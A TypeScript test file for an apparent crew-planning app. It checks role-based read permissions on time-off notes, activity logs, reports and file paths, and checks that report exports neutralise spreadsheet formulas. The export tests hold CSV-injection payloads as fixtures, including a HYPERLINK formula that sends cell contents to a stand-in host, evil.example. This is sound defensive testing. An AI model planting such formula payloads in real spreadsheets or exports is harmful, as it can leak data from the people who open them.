import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import {
  filterPulledRows,
  mayReadActivityImages,
  mayReadPaths,
  mayReadPerformanceOf,
  mayReadSyncNotices,
  mayReadTeamPerformance,
  mayReadTimeOffNote,
  scopeRow,
  type Viewer,
} from '../../../main/core/read-scopes';
import { neutraliseCell, reportCsv, reportXlsx } from '../../../main/reports/export';
import type { MonthlyReport } from '../../../shared/contract';
import type { RowChange } from '../../../shared/sync';
import { world, type TestWorld } from '../../helpers/db';

const NOW = Date.UTC(2026, 11, 29, 2, 0);
const SELF = 'p-self';
const OTHER = 'p-other';
const viewers: Record<'member' | 'convener' | 'manager' | 'admin', Viewer> = {
  member: { id: SELF, role: 'member' },
  convener: { id: SELF, role: 'convener' },
  manager: { id: SELF, role: 'manager' },
  admin: { id: SELF, role: 'admin' },
};

describe('the read policy (one table, core/read-scopes)', () => {
  it.each([
    ['member', false, false, false],
    ['convener', false, false, false],
    ['manager', true, true, false],
    ['admin', true, true, true],
  ] as const)('%s: others’ notes %s, others’ performance %s, paths %s; always their own', (role, others, perf, paths) => {
    const v = viewers[role];
    expect(mayReadTimeOffNote(v, OTHER)).toBe(others);
    expect(mayReadTimeOffNote(v, SELF)).toBe(true);
    expect(mayReadPerformanceOf(v, OTHER)).toBe(perf);
    expect(mayReadPerformanceOf(v, SELF)).toBe(true);
    expect(mayReadTeamPerformance(v)).toBe(perf);
    expect(mayReadActivityImages(v, OTHER)).toBe(others);
    expect(mayReadActivityImages(v, SELF)).toBe(true);
    expect(mayReadActivityImages(v, null)).toBe(true); // not a people record
    expect(mayReadPaths(v)).toBe(paths);
    expect(mayReadSyncNotices(v, SELF)).toBe(true);
    expect(mayReadSyncNotices(v, OTHER)).toBe(false); // even an admin: notices are the hub account's
  });

  it('nobody signed in reads nothing personal', () => {
    expect(mayReadTimeOffNote(null, OTHER)).toBe(false);
    expect(mayReadPerformanceOf(null, OTHER)).toBe(false);
    expect(mayReadActivityImages(null, OTHER)).toBe(false);
    expect(mayReadPaths(null)).toBe(false);
    expect(mayReadSyncNotices(null, SELF)).toBe(false);
  });

  it('what the hub sends: others’ time-off notes and people-record images are removed for a member, kept for a manager', () => {
    const timeOff = (person: string): RowChange => ({
      table: 'time_off', key: `["t-${person}"]`, version: 3,
      data: { id: `t-${person}`, person_id: person, kind: 'leave', start_date: '2027-01-04', end_date: '2027-01-05', hours_per_day: 8, note: '看病', created_at: 1 },
    });
    const activity = (entityType: string, entityId: string, img: unknown): RowChange => ({
      table: 'activity_log', key: `["a-${entityType}"]`, version: 4,
      data: { id: 'a', at: 1, actor_id: 'x', command: 'people.update', input: JSON.stringify(img), entity_type: entityType, entity_id: entityId, project_id: null, summary: '修改人员', before: JSON.stringify(img), after: JSON.stringify(img) },
    });
    const rows = [
      timeOff(OTHER), timeOff(SELF),
      activity('person', OTHER, { title: '记者' }),
      activity('time_off', 't-1', { personId: OTHER, note: '看病' }),
      activity('person', SELF, { title: '记者' }),
      activity('task', 'task-1', { title: '直播' }),
      { table: 'time_off', key: '["gone"]', version: 5, data: null },
    ];
    const member = filterPulledRows(viewers.member, rows);
    expect(member[0]!.data!.note).toBe('');
    expect(member[0]!.data!.start_date).toBe('2027-01-04'); // the dates stay: planning needs them
    expect(member[1]!.data!.note).toBe('看病');
    for (const i of [2, 3]) {
      expect(member[i]!.data).toMatchObject({ before: null, after: null, input: '{}', summary: '修改人员' });
    }
    expect(member[4]).toEqual(rows[4]);
    expect(member[5]).toEqual(rows[5]);
    expect(member[6]).toEqual(rows[6]);
    expect(filterPulledRows(viewers.manager, rows)).toEqual(rows);
    // The rows given are not changed in place (the hub serves many people from one read).
    expect(rows[0]!.data!.note).toBe('看病');
    // Unknown or unreadable images are treated as someone else's.
    expect(scopeRow(viewers.member, activity('time_off', 't-2', 'garbage')).data!.before).toBeNull();
  });
});

describe('the policy in the local queries', () => {
  let w: TestWorld | null = null;
  afterEach(() => {
    w?.close();
    w = null;
  });
  const demo = async (): Promise<TestWorld> => (w = await world({ demo: true, now: NOW }));
  const id = (t: TestWorld, name: string): string => t.as(name).actorId!;

  it('time off: a member lists only their own; managers read everyone’s notes; a convener’s group picker shows the clash without the reason', async () => {
    const t = await demo();
    const mine = await t.call(t.as('王小川'), 'timeOff.create', { personId: id(t, '王小川'), kind: 'leave', startDate: '2027-01-04', endDate: '2027-01-05', note: '家事' });
    expect((await t.call(t.as('王小川'), 'timeOff.list', {})).map((e) => [e.personId, e.note])).toEqual([[id(t, '王小川'), '家事']]);
    // Asking for someone else's list still gives a member their own only.
    expect((await t.call(t.as('王小川'), 'timeOff.list', { personId: id(t, '钟一鸣') })).every((e) => e.personId === id(t, '王小川'))).toBe(true);
    const all = await t.call(t.as('陈思远'), 'timeOff.list', {});
    expect(all.find((e) => e.id === mine.id)!.note).toBe('家事');
    expect(all.find((e) => e.personId === id(t, '钟一鸣'))!.note).toBe('外派市台支援');

    const project = await t.call(t.as('林晓峰'), 'projects.create', {
      name: '事由测试', startDate: '2027-01-01', endDate: '2027-02-20', keyDates: [{ date: '2027-01-05', label: '发布' }],
    });
    const asConvener = await t.call(t.as('林晓峰'), 'projects.candidates', { projectId: project.id, search: '王小川' });
    expect(asConvener[0]!.clashes).toEqual([{ kind: 'timeOff', date: '2027-01-05', label: '', timeOffKind: 'leave' }]);
    const asManager = await t.call(t.as('陈思远'), 'projects.candidates', { projectId: project.id, search: '王小川' });
    expect(asManager[0]!.clashes[0]!.label).toBe('家事');
  });

  it('activity log: others’ people records show their summary only; the person and managers see before/after', async () => {
    const t = await demo();
    await t.call(t.as('陈思远'), 'people.update', { id: id(t, '钟一鸣'), title: '首席记者' });
    await t.call(t.as('陈思远'), 'timeOff.create', { personId: id(t, '钟一鸣'), kind: 'leave', startDate: '2027-01-11', endDate: '2027-01-12', note: '手术' });
    const find = (list: { entityType: string; before: unknown; after: unknown; summary: string }[], type: string) => list.find((e) => e.entityType === type)!;
    const member = await t.call(t.as('王小川'), 'activity.list', { limit: 50 });
    for (const type of ['person', 'time_off']) {
      expect(find(member, type).before, type).toBeNull();
      expect(find(member, type).after, type).toBeNull();
      expect(find(member, type).summary).not.toBe('');
    }
    expect(JSON.stringify(member)).not.toContain('手术');
    const subject = await t.call(t.as('钟一鸣'), 'activity.list', { limit: 50 });
    expect(find(subject, 'time_off').after).toMatchObject({ note: '手术' });
    expect(find(subject, 'person').after).toMatchObject({ title: '首席记者' });
    const manager = await t.call(t.as('何静怡'), 'activity.list', { limit: 50 });
    expect(find(manager, 'time_off').after).toMatchObject({ note: '手术' });
  });

  it('reports: a member gets their own row and no team totals; a manager everyone’s', async () => {
    const t = await demo();
    const mine = await t.call(t.as('王小川'), 'reports.monthly', { month: '2026-12' });
    expect(mine.scope).toBe('self');
    expect(mine.people.map((p) => p.personId)).toEqual([id(t, '王小川')]);
    expect(mine.teams).toEqual([]);
    const convener = await t.call(t.as('林晓峰'), 'reports.monthly', { month: '2026-12' });
    expect(convener.people).toHaveLength(1);
    const all = await t.call(t.as('陈思远'), 'reports.monthly', { month: '2026-12' });
    expect(all.scope).toBe('all');
    expect(all.people.length).toBeGreaterThan(50);
    expect(all.teams.length).toBeGreaterThan(0);
  });

  it('maintenance.status: absolute paths for admins only', async () => {
    const t = await demo();
    const admin = await t.call(t.as('周岚'), 'maintenance.status', {});
    expect(admin.dataFile).toBe(t.file);
    expect(admin.backupsDir).toContain(t.file.replace(/crewdesk\.sqlite3$/, ''));
    for (const s of [{ actorId: null }, t.as('陈思远'), t.as('王小川')]) {
      const st = await t.call(s, 'maintenance.status', {});
      expect(st).toMatchObject({ mode: 'normal', dataFile: null, backupsDir: null });
      expect(JSON.stringify(st)).not.toContain(t.file.split('/').slice(0, -1).join('/'));
    }
  });
});

describe('report files: formula cells neutralised (OWASP CSV injection)', () => {
  const report = (name: string): MonthlyReport => ({
    month: '2026-12',
    scope: 'self',
    people: [{ personId: 'p', name, role: 'member', teamId: 't', teamName: '@团队', tasksDone: 3, hours: -0, deliverablesPublished: 1, views: 10, likes: 1, shares: 0, comments: 0 }],
    teams: [],
    totals: { tasksDone: 3, hours: 0, deliverablesPublished: 1, views: 10, likes: 1, shares: 0, comments: 0 },
    reviews: { deliverables: 1, rounds: 2, roundsPerDeliverable: 2, sentBack: 1, overridden: 0, medianWaitHours: 3.5, open: 0 },
  });
  const csvCells = (name: string): string[][] => {
    const f = reportCsv(report(name));
    return Papa.parse<string[]>(Buffer.from(f.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '')).data;
  };

  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'])('%j as a name comes out as text', (name) => {
    const rows = csvCells(name);
    expect(rows[1]![0]).toBe(`'${name}`);
    expect(rows[1]![1]).toBe("'@团队");
    expect(rows[1]![3]).toBe('3'); // numbers stay numbers
    const raw = Buffer.from(reportCsv(report(name)).base64, 'base64').toString('utf8');
    expect(raw).toContain(`"'${name.replace(/"/g, '""')}"`);
  });

  it('ordinary names are unchanged', () => {
    expect(csvCells('王小川')[1]![0]).toBe('王小川');
    expect(neutraliseCell('a=b')).toBe('a=b');
    expect(neutraliseCell(-5)).toBe(-5);
  });

  it('the xlsx export writes such a name as a text cell, never as a formula', async () => {
    const f = await reportXlsx(report('=HYPERLINK("http://evil.example","x")'), NOW, '王小川');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(f.base64, 'base64') as unknown as ArrayBuffer);
    const cell = wb.getWorksheet('人员绩效')!.getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
  });
});
